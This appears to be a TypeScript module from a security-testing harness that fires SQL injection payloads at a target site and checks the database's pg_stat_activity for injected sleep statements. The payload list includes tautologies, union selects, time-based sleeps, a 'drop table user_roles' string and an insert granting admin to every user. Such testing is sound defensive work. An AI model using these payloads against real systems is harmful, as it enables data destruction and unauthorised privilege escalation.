import { everywhere } from '#proof/attack/payloads.ts';
import { attack, combine, type Result, type Target } from '#proof/attack/target.ts';

const SLEEP = 'pg_sleep(3)';
const SLEEP_MS = 3000;

const PAYLOADS = [
  ...["'", '"', "' or '1'='1", "' or 1=1--", '1 or 1=1', "') or ('1'='1", "\\' or 1=1--", '%" or 1=1--', '$1'],
  'ʼ or 1=1--', // Some drivers convert this letter to a quote.
  "'; drop table user_roles;--",
  "'; insert into user_roles (user_id, role) select id, 'admin' from users;--",
  ...["' union select null,null,null--", '1; select 1/0'],
  ...[`'; select ${SLEEP}--`, `1 and 1=(select 1 from ${SLEEP})`],
  ...[`' || (select ${SLEEP}) || '`, `(select 1 from (select ${SLEEP})x)`],
];

/** Asks the database which statements sleep, because on a busy machine every response is slow. */
export async function attackDatabase(target: Target): Promise<Result> {
  const sleeping = new Set<string>();
  const watch = setInterval(async () => {
    const rows = await target.site.query("select query from pg_stat_activity where wait_event = 'PgSleep'");
    for (const { query } of rows) sleeping.add(query);
  }, SLEEP_MS / 4);
  const attacked = await attack(target, everywhere(target, PAYLOADS));
  clearInterval(watch);
  return combine(attacked, {
    requests: 0,
    findings: [...sleeping].map((query) => `an injected statement ran: ${query}`),
  });
}
